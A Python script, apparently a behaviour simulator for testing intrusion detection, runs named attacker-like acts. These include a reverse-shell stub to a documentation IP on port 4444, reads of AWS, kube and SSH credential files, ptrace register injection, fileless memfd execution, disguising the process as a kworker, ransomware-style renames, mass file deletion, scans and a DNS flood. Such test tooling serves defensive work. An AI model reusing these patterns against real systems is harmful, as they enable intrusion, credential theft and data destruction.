"""Single acts that a shell cannot do, by name."""

import ctypes
import os
import socket
import struct
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 12, 13, 16, 17


def child(seconds):
    pid = os.fork()
    if pid == 0:
        time.sleep(seconds)
        os._exit(0)
    time.sleep(0.1)
    return pid


def serve():
    """A server on the ports that others connect to. It answers with a script."""

    def listen(port):
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("0.0.0.0", port))
        server.listen(200)
        while True:
            client, _ = server.accept()
            threading.Thread(target=answer, args=(client,), daemon=True).start()

    def answer(client):
        client.settimeout(1)
        try:
            client.recv(4096)
            client.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 17\r\n\r\n#!/bin/sh\ntrue\n\n\n")
        except OSError:
            pass
        client.close()

    for port in (22, 80, 443, 3333, 4444, 9050, 10250):
        threading.Thread(target=listen, args=(port,), daemon=True).start()
    time.sleep(120)


def connect(address, port):
    socket.create_connection((address, int(port)), 1).close()


def memory():
    pid = child(1)
    open(f"/proc/{pid}/mem", "rb").close()
    os.waitpid(pid, 0)


def attach(pid):
    libc.ptrace(PTRACE_ATTACH, int(pid), 0, 0)
    time.sleep(0.1)
    libc.ptrace(PTRACE_DETACH, int(pid), 0, 0)


def inject():
    pid = child(2)
    registers = ctypes.create_string_buffer(512)
    libc.ptrace(PTRACE_ATTACH, pid, 0, 0)
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_GETREGS, pid, 0, registers)
    libc.ptrace(PTRACE_SETREGS, pid, 0, registers)
    libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    os.kill(pid, 9)
    os.waitpid(pid, 0)


def memfd():
    file = os.memfd_create("x")
    with open("/bin/true", "rb") as program:
        os.write(file, program.read())
    os.execve(file, ["x"], {})


def bpf():
    """Loads a socket filter of two instructions."""
    code = ctypes.create_string_buffer(struct.pack("<BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0))
    licence = ctypes.create_string_buffer(b"GPL")
    program = struct.pack("<IIQQIIQ", 1, 2, ctypes.addressof(code), ctypes.addressof(licence), 0, 0, 0) + bytes(100)
    libc.syscall(321, 5, ctypes.create_string_buffer(program), len(program))


def uring():
    libc.syscall(425, 4, ctypes.create_string_buffer(240))


def userfaultfd():
    libc.syscall(323, 1)


def rename_itself():
    libc.prctl(15, b"kworker/u8:2", 0, 0, 0)
    time.sleep(0.1)


def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()


def unix(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(1)
    socket.socket(socket.AF_UNIX).connect(path)


def refused():
    for port in range(21000, 21040):
        socket.socket().connect_ex(("10.0.0.7", port))


def ports():
    for port in range(20000, 20040):
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex(("10.0.0.3", port))


def machines():
    for number in range(1, 12):
        connect(f"10.9.0.{number}", 22)


def sshd():
    server = socket.socket()
    server.bind(("127.0.0.1", 2222))
    server.listen(50)
    server.settimeout(2)
    while True:
        server.accept()[0].close()


def call():
    for _ in range(30):
        connect("127.0.0.1", 2222)


def dns():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.connect(("10.0.0.3", 53))
    for _ in range(600):
        try:
            server.send(b"x" * 150)
        except OSError:
            pass


def lock():
    os.makedirs("/home/ann/documents", exist_ok=True)
    for number in range(40):
        name = f"/home/ann/documents/{number}.odt"
        open(name, "w").close()
        os.rename(name, name + ".lock3d")


def wipe():
    os.makedirs("/var/lib/mysql/shop", exist_ok=True)
    names = [f"/var/lib/mysql/shop/{number}.ibd" for number in range(60)]
    for name in names:
        open(name, "w").close()
    for name in names:
        os.unlink(name)


def steal():
    for name in (".aws/credentials", ".kube/config", ".ssh/id_ed25519", ".npmrc"):
        open("/home/ann/" + name).read()
    connect("203.0.113.9", 443)
    open("/etc/systemd/system/implant.service", "w").close()


def remove(path):
    os.unlink(path)


def back():
    """A shell for whoever listens."""
    server = socket.create_connection(("203.0.113.9", 4444))
    for descriptor in range(3):
        os.dup2(server.fileno(), descriptor)
    os.execvp("sh", ["sh", "-c", "true"])


globals()[sys.argv[1]](*sys.argv[2:])
